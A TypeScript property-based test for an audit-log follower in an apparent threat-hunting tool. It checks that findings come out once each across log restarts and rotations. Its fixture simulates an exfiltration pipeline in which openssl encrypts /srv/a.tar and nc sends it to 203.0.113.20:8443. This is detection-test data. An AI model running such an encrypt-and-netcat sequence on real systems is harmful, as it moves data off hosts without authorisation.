import { appendFileSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { connectLines, execLines, saddr4 } from '../../test/linux/audit-lines.ts';
import { DEFAULT_CONFIG } from '../config/default-config.ts';
import { huntSettings } from '../config/hunt-settings.ts';
import type { Finding } from '../findings/finding.ts';
import { Follower } from './follow.ts';
import { hunt } from './hunt.ts';

const folders: string[] = [];
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

const settings = huntSettings(DEFAULT_CONFIG, {
  internal: [],
  external: [],
  since: undefined,
  until: undefined,
  host: 'web01',
});

/** An openssl and an nc of one shell, every `number` another one, ten minutes apart: as in a recording of a pipeline. */
function pipeline(number: number): string[] {
  const second = 1_795_310_000 + number * 600;
  const shell = 4_000 + number * 10;
  const stamp = (serial: number): { time: string; serial: number } => ({
    time: `${second}.${String(100 + serial * 4).padStart(3, '0')}`,
    serial: number * 100 + serial,
  });
  const sealed = ['openssl', 'enc', '-aes-256-cbc', '-k', 'x', '-in', '/srv/a.tar'];
  return [
    ...execLines({
      ...stamp(1),
      arguments: ['bash', 'send.sh'],
      pid: shell,
      ppid: 900,
      exe: '/usr/bin/bash',
    }),
    ...execLines({ ...stamp(2), arguments: sealed, pid: shell + 1, ppid: shell, exe: '/usr/bin/openssl' }),
    ...execLines({
      ...stamp(3),
      arguments: ['nc', '203.0.113.20', '8443'],
      pid: shell + 2,
      ppid: shell,
      exe: '/usr/bin/nc.openbsd',
    }),
    ...connectLines({ ...stamp(4), pid: shell + 2, ppid: shell, saddr: saddr4('203.0.113.20', 8443) }),
  ];
}

const LINES = [1, 2, 3].flatMap(pipeline).map((line) => `${line}\n`);

interface Told {
  readonly id: string;
  readonly level: string;
}

/** Follows a log in which the lines come in pieces, with restarts and rotations in between. */
function followed(
  cuts: readonly { readonly at: number; readonly act: 'settle' | 'restart' | 'rotate' }[],
): Told[] {
  const folder = mkdtempSync(join(tmpdir(), 'postern-follower-'));
  folders.push(folder);
  const path = join(folder, 'audit.log');
  const told: Told[] = [];
  writeFileSync(path, '');
  const start = (): Follower =>
    new Follower({
      paths: [path],
      settings,
      showSecrets: false,
      statePath: join(folder, 'state.json'),
      onFinding: ({ id, level }: Finding) => told.push({ id, level }),
      onNote: (sentence) => {
        throw new Error(sentence);
      },
    });
  let follower = start();
  follower.poll();
  let rotations = 0;
  let from = 0;
  for (const { at, act } of [...cuts].sort((a, b) => a.at - b.at)) {
    const to = Math.floor(at * LINES.length);
    appendFileSync(path, LINES.slice(from, to).join(''));
    from = Math.max(from, to);
    if (act === 'rotate') {
      for (let number = rotations; number > 0; number--)
        renameSync(`${path}.${number}`, `${path}.${number + 1}`);
      renameSync(path, `${path}.1`);
      writeFileSync(path, '');
      rotations++;
    }
    follower.poll();
    follower.settle();
    if (act === 'restart') {
      // Killed: nothing is closed.
      follower = start();
      follower.poll();
    }
  }
  appendFileSync(path, LINES.slice(from).join(''));
  follower.poll();
  follower.poll();
  follower.close();
  return told;
}

const cut = fc.record({
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  act: fc.constantFrom('settle' as const, 'restart' as const, 'rotate' as const),
});

describe('a follower', () => {
  it('tells what a hunt in the whole log finds, each once, through restarts and rotations', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'postern-whole-'));
    folders.push(folder);
    writeFileSync(join(folder, 'audit.log'), LINES.join(''));
    const { findings } = await hunt({ paths: [folder], settings, showSecrets: false });
    const wanted = findings.map(({ id }) => id).sort();
    expect(wanted).toHaveLength(3);
    fc.assert(
      fc.property(fc.array(cut, { maxLength: 6 }), (cuts) => {
        const told = followed(cuts);
        expect([...new Set(told.map(({ id }) => id))].sort()).toEqual(wanted);
        // Told again only when its level has risen.
        expect(new Set(told.map(({ id, level }) => `${id} ${level}`)).size).toBe(told.length);
      }),
      { numRuns: 60 },
    );
  });
});
